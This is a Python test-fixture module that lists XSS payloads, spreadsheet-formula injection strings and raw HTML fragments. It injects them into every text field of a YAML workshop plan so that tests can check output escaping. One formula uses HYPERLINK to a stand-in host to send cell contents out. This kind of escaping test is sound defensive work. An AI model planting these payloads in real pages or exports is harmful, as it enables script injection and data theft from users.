"""Known XSS and spreadsheet-formula payloads, and a plan that carries them in every text a
facilitator writes (title, description, notice, sectors, tables, prompts, items)."""

from __future__ import annotations

import yaml

from tests.live.test_points_grid_words_statements import PLAN

# Each sets window.__xss if it ever runs, so a browser test can tell.
XSS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "<svg onload=window.__xss=1>",
    "javascript:window.__xss=1",
    "</textarea><script>window.__xss=1</script>",
    "{{7*7}} ${7*7} {% raw %}",
    "'-alert(1)-' \" onmouseover=\"window.__xss=1",
]
# Cells a spreadsheet would read as a formula (a tab or CR first, too).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Whole fragments that only appear in a page if the text was not escaped.
RAW = ["<script>window", "<img src=x", "<svg onload", "</textarea><script>"]


def short(payload: str, most: int) -> str:
    return payload[:most]


def hostile_plan() -> str:
    """The four-activity plan (points, grid, word cloud, statements) with a payload in every
    text a facilitator writes."""
    plan = yaml.safe_load(PLAN)
    plan["title"] = "Plan " + XSS[0]
    plan["description"] = XSS[1] + "\n\n" + XSS[5]
    plan["privacy_notice"] = XSS[2]
    plan["sectors"] = ["Health", XSS[1], XSS[5]]
    plan["tables"] = ["Table " + XSS[2], XSS[3]]
    plan["scenarios"][0]["title"] = XSS[4]
    for stage in plan["stages"]:
        stage["prompt"] = stage["prompt"] + " " + XSS[0]
        if isinstance(stage.get("items"), list):
            stage["items"] = [*stage["items"], XSS[2]]
    return yaml.safe_dump(plan, allow_unicode=True, sort_keys=False)
